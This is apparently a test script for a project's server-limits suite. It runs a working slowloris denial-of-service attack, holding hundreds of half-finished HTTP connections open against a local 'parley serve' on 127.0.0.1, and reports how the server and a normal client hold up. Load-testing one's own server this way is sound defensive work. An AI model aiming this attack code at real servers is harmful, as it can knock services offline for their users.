#!/usr/bin/env python3
"""slowloris.py — a slowloris attack on a local `parley serve`, for
tests/serve_limits.sh (issue 13, D5): opens N connections to 127.0.0.1
that each send a request line and then one header line every INTERVAL
seconds, never finishing; meanwhile a normal client asks for PATH every
half second. After DURATION seconds it prints one JSON line: the normal
client's worst and median times, how many of its requests failed, how
many attack connections the server accepted and how many it had closed by
the end, and how long the longest-lived one lasted.

usage: slowloris.py PORT [N [DURATION [INTERVAL [PATH]]]]
"""
import json
import selectors
import socket
import sys
import threading
import time
import urllib.request

port = int(sys.argv[1])
n = int(sys.argv[2]) if len(sys.argv) > 2 else 500
duration = float(sys.argv[3]) if len(sys.argv) > 3 else 8
interval = float(sys.argv[4]) if len(sys.argv) > 4 else 1
path = sys.argv[5] if len(sys.argv) > 5 else "/api/events?limit=5"

sel = selectors.DefaultSelector()
conns = {}  # socket -> [opened at, closed at or None, lines sent]
refused = 0
start = time.monotonic()


def open_one():
    global refused
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(("127.0.0.1", port))
        s.sendall(b"GET /api/events HTTP/1.1\r\nHost: 127.0.0.1\r\n")
    except OSError:
        refused += 1
        s.close()
        return
    s.setblocking(False)
    conns[s] = [time.monotonic(), None, 1]
    sel.register(s, selectors.EVENT_READ)


def attack():
    for _ in range(n):
        open_one()
    last = time.monotonic()
    while time.monotonic() - start < duration:
        for key, _ in sel.select(timeout=0.1):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:  # closed by the server
                conns[s][1] = time.monotonic()
                sel.unregister(s)
        if time.monotonic() - last >= interval:
            last = time.monotonic()
            for s, st in conns.items():
                if st[1] is None:
                    try:
                        s.send(b"X-Trickle-%d: %d\r\n" % (st[2], st[2]))
                        st[2] += 1
                    except OSError:
                        st[1] = time.monotonic()
                        sel.unregister(s)


times, failures = [], 0


def client():
    global failures
    time.sleep(0.5)
    while time.monotonic() - start < duration - 0.5:
        t0 = time.monotonic()
        try:
            with urllib.request.urlopen("http://127.0.0.1:%d%s" % (port, path), timeout=5) as r:
                r.read()
                ok = r.status == 200
        except Exception:
            ok = False
        times.append(time.monotonic() - t0)
        if not ok:
            failures += 1
        time.sleep(0.5)


t = threading.Thread(target=client)
t.start()
attack()
t.join()
end = time.monotonic()
lived = [(st[1] if st[1] is not None else end) - st[0] for st in conns.values()]
times.sort()
print(json.dumps({
    "requests": len(times),
    "failures": failures,
    "worst": round(times[-1], 3) if times else None,
    "median": round(times[len(times) // 2], 3) if times else None,
    "accepted": len(conns),
    "refused": refused,
    "closed_by_server": sum(1 for st in conns.values() if st[1] is not None),
    "longest": round(max(lived), 2) if lived else 0,
}))
for s in conns:
    s.close()
